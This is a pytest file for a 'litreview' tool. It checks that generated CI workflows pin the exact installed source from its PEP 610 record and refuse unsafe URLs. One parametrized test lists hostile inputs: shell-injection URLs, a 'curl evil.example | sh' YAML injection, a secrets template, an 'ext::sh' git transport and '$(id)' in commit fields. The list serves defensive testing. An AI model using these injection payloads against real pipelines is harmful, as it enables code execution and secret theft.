"""`init --workflow`: the workflow installs the litreview that wrote it (read from its PEP 610 record),
never the name alone from a package index, where "litreview" is another project."""

from __future__ import annotations

import json
import shutil
import subprocess
from importlib import metadata
from pathlib import Path

import pytest
import yaml

from litreview.cli import main
from litreview.commands import _install_spec
from litreview.commands._ci_files import workflow_text
from litreview.commands._install_spec import Requirement, from_direct_url, reachable_url, running_requirement

CASE = Path(__file__).parent / "cases" / "init_essay"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHA256 = "ab" * 32


def installed(site: Path, direct_url: dict[str, object] | None) -> tuple[metadata.Distribution, Path]:
    """A distribution record of litreview in ``site`` (with ``direct_url`` as its direct_url.json) and its package."""
    info = site / "litreview-0.1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: litreview\nVersion: 0.1.0\n", encoding="utf-8")
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url), encoding="utf-8")
    (site / "litreview").mkdir()
    (site / "litreview" / "__init__.py").write_text("", encoding="utf-8")
    return metadata.PathDistribution(info), site / "litreview"


def git(folder: Path, *args: str) -> str:
    done = subprocess.run(["git", "-c", "user.name=A", "-c", "user.email=a@example.org", "-c", "commit.gpgsign=false",
                           *args], cwd=folder, capture_output=True, check=True, text=True)
    return done.stdout.strip()


def checkout(folder: Path, remote: str | None) -> str:
    """A git checkout of litreview's source in ``folder`` with one commit (and ``remote`` as origin); its HEAD."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    (folder / "litreview").mkdir(parents=True)
    (folder / "litreview" / "__init__.py").write_text("", encoding="utf-8")
    git(folder, "init", "-q")
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", "source")
    if remote is not None:
        git(folder, "remote", "add", "origin", remote)
    return git(folder, "rev-parse", "HEAD")


def install_steps(text: str) -> list[str]:
    workflow = yaml.safe_load(text)
    return [step["run"] for job in workflow["jobs"].values() for step in job.get("steps", [])
            if "pip install" in step.get("run", "")]


def test_a_vcs_install_gives_its_repository_at_its_commit(tmp_path: Path) -> None:
    dist, package = installed(tmp_path, {"url": "https://github.com/example/litreview.git",
                                         "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"}})
    requirement = running_requirement(dist, package)
    assert requirement.spec == f"litreview @ git+https://github.com/example/litreview.git@{COMMIT}"
    workflow = yaml.safe_load(workflow_text("", requirement))
    assert workflow["env"]["LITREVIEW_REQUIREMENT"] == requirement.spec
    steps = install_steps(workflow_text("", requirement))
    assert len(steps) == 3 and len(set(steps)) == 1 and "$" + "{LITREVIEW_REQUIREMENT:?" in steps[0]


def test_a_record_of_another_copy_is_not_used(tmp_path: Path) -> None:
    # The package running is not the one the record beside it describes (another copy earlier on the path).
    dist, _ = installed(tmp_path / "site", {"url": "https://github.com/example/litreview.git",
                                            "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    elsewhere = tmp_path / "elsewhere" / "litreview"
    elsewhere.mkdir(parents=True)
    assert running_requirement(dist, elsewhere).spec is None
    assert running_requirement(dist, tmp_path / "site" / "litreview").spec is not None


def test_an_index_install_without_a_record_gives_nothing(tmp_path: Path) -> None:
    dist, package = installed(tmp_path, None)
    requirement = running_requirement(dist, package)
    assert requirement.spec is None and "package index" in requirement.note


@pytest.mark.parametrize(("remote", "url"), [
    ("https://example.org/me/litreview.git", "https://example.org/me/litreview.git"),
    ("https://me:ghp_secret@example.org/me/litreview.git", "https://example.org/me/litreview.git"),  # no token
    ("git@github.com:me/litreview.git", "ssh://git@github.com/me/litreview.git"),
])
def test_an_editable_checkout_gives_its_remote_at_head(tmp_path: Path, remote: str, url: str) -> None:
    head = checkout(tmp_path / "src", remote)
    dist, _ = installed(tmp_path / "site", {"url": (tmp_path / "src").as_uri(), "dir_info": {"editable": True}})
    requirement = running_requirement(dist, tmp_path / "src" / "litreview")
    assert requirement.spec == f"litreview @ git+{url}@{head}"
    assert "push it" in requirement.note and "secret" not in requirement.note


def test_a_project_below_the_checkouts_top_names_its_subdirectory(tmp_path: Path) -> None:
    head = checkout(tmp_path / "src", "https://example.org/me/tools.git")
    (tmp_path / "src" / "tool" / "litreview").mkdir(parents=True)
    requirement = from_direct_url({"url": (tmp_path / "src" / "tool").as_uri(), "dir_info": {}})
    assert requirement.spec == f"litreview @ git+https://example.org/me/tools.git@{head}#subdirectory=tool"


def test_a_checkout_without_a_reachable_remote_writes_a_failing_step_and_warns(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    checkout(tmp_path / "src", None)
    assert from_direct_url({"url": (tmp_path / "gone").as_uri(), "dir_info": {}}).spec is None
    assert from_direct_url({"url": (tmp_path / "src").as_uri(), "dir_info": {"editable": True}}).spec is None
    git(tmp_path / "src", "remote", "add", "origin", str(tmp_path / "bare"))  # a local path: not reachable in CI
    requirement = from_direct_url({"url": (tmp_path / "src").as_uri(), "dir_info": {"editable": True}})
    assert requirement.spec is None and "no remote a CI runner could reach" in requirement.note

    review = tmp_path / "review"
    review.mkdir()
    shutil.copy(CASE / "essay.md", review / "essay.md")
    monkeypatch.chdir(review)
    monkeypatch.setattr(_install_spec, "running_requirement", lambda: requirement)
    assert main(["init", "essay.md", "--workflow"]) == 0
    captured = capsys.readouterr()
    text = (review / ".github" / "workflows" / "review.yml").read_text(encoding="utf-8")
    line = next(number for number, content in enumerate(text.splitlines(), 1)
                if content.startswith("  LITREVIEW_REQUIREMENT:"))
    assert f"warning: .github/workflows/review.yml:{line}: LITREVIEW_REQUIREMENT is empty" in captured.err
    assert yaml.safe_load(text)["env"]["LITREVIEW_REQUIREMENT"] == ""
    assert "pip install litreview" not in text
    assert str(tmp_path) not in text  # the user's own folder is told in the terminal, never written in the file
    if (bash := shutil.which("bash")) is not None:  # the step stops at once, saying what to do; no index asked
        step = install_steps(text)[0]
        done = subprocess.run([bash, "-e", "-c", step], env={"PATH": "/nonexistent", "LITREVIEW_REQUIREMENT": ""},
                              capture_output=True, text=True)
        assert done.returncode != 0 and "write at the top of this workflow how to install litreview" in done.stderr
    # Run again, the workflow is kept, and nothing is said of what it installs.
    assert main(["init", "essay.md", "--workflow"]) == 0
    assert "warning" not in capsys.readouterr().err


def test_an_archive_gives_its_url_and_hash(tmp_path: Path) -> None:
    url = "https://example.org/dist/litreview-0.1.0.tar.gz"
    requirement = from_direct_url({"url": url, "archive_info": {"hashes": {"sha256": SHA256}}})
    assert requirement.spec == f"litreview @ {url}#sha256={SHA256}"
    assert from_direct_url({"url": url, "archive_info": {}}).spec == f"litreview @ {url}"
    assert from_direct_url({"url": "file:///tmp/litreview-0.1.0.tar.gz", "archive_info": {}}).spec is None
    assert from_direct_url({"url": "http://example.org/litreview.tar.gz", "archive_info": {}}).spec is None


@pytest.mark.parametrize("url", [
    "https://example.org/x'; touch pwned; echo '",
    'https://example.org/x"\n  run: curl evil.example | sh',
    "https://example.org/$(touch pwned)",
    "https://example.org/${{ secrets.TOKEN }}",
    "https://example.org/a b",
    "https://example.org/repo.git?ref=x#y",
    "https://exa`id`mple.org/repo.git",
    "file:///home/me/litreview",
    "/home/me/litreview",
    "ext::sh -c touch% /tmp/pwned",
])
def test_a_hostile_or_unreachable_url_is_refused(tmp_path: Path, url: str) -> None:
    assert reachable_url(url) is None
    requirement = from_direct_url({"url": url, "vcs_info": {"vcs": "git", "commit_id": COMMIT}})
    assert requirement.spec is None
    # What is said of it stays inside its comment: the workflow reads as it was written.
    workflow = yaml.safe_load(workflow_text("", requirement))
    assert workflow["env"] == {"LITREVIEW_REQUIREMENT": ""} and set(workflow) >= {"jobs", "permissions"}


def test_a_hostile_commit_or_hash_is_refused() -> None:
    url = "https://example.org/me/litreview.git"
    assert from_direct_url({"url": url, "vcs_info": {"vcs": "git", "commit_id": "$(id)"}}).spec is None
    assert from_direct_url({"url": url, "vcs_info": {"vcs": "ext", "commit_id": COMMIT}}).spec is None
    archive = from_direct_url({"url": "https://example.org/l.tar.gz", "archive_info": {"hash": "sha256=$(id)"}})
    assert archive.spec == "litreview @ https://example.org/l.tar.gz"  # the hash left out, not the archive


def test_the_requirement_is_one_yaml_string_the_shell_reads_as_one_word() -> None:
    spec = f"litreview @ https://example.org/l.tar.gz#sha256={SHA256}&subdirectory=tool"
    text = workflow_text("papers/i r", Requirement(spec, "note\nLITREVIEW_REQUIREMENT: evil"))
    workflow = yaml.safe_load(text)
    assert workflow["env"] == {"LITREVIEW_REQUIREMENT": spec}
    assert workflow["defaults"]["run"]["working-directory"] == "papers/i r"


def test_the_workflow_never_holds_the_folder_litreview_was_installed_from() -> None:
    text = workflow_text("", Requirement("litreview @ git+https://example.org/me/litreview.git@" + "a" * 40,
                                         "the commit aaaaaaaaaaaa of /home/someone/src/litreview, at its remote origin"))
    assert "/home/someone" not in text and yaml.safe_load(text)["env"]["LITREVIEW_REQUIREMENT"].endswith("a" * 40)
